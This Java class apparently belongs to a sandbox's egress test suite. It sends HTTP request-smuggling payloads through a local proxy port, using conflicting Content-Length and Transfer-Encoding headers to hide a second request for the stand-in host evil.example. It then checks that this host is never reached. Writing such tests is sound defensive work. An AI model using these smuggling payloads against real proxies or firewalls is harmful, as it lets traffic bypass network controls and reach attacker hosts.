package com.portofcontext.pctx.sandbox.attacks.egress;

import java.util.List;

/**
 * A second request, for another server, behind or inside of one that is allowed.
 */
class SmuggledRequest extends EgressAttack {

	@Override
	public String attack(List<String> arguments) {
		String port = arguments.get(0);
		String second = "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n";
		StringBuilder all = new StringBuilder();
		for (String rest : List.of("", "Content-Length: 3\r\n\r\nabc",
				"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
				"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
				"Transfer-Encoding: identity\r\nContent-Length: 0\r\n\r\n",
				"Content-Length: 1\r\nContent-Length: 0\r\n\r\n", "Connection: keep-alive\r\n\r\n")) {
			all.append(WayOut.ask(port, "POST http://127.0.0.1:%1$s/ HTTP/1.1\r\nHost: 127.0.0.1:%1$s\r\n%2$s%3$s"
				.formatted(port, rest.isEmpty() ? "\r\n" : rest, second)));
		}
		return all.toString();
	}

	@Override
	String forbidden() {
		return "evil.example";
	}

}
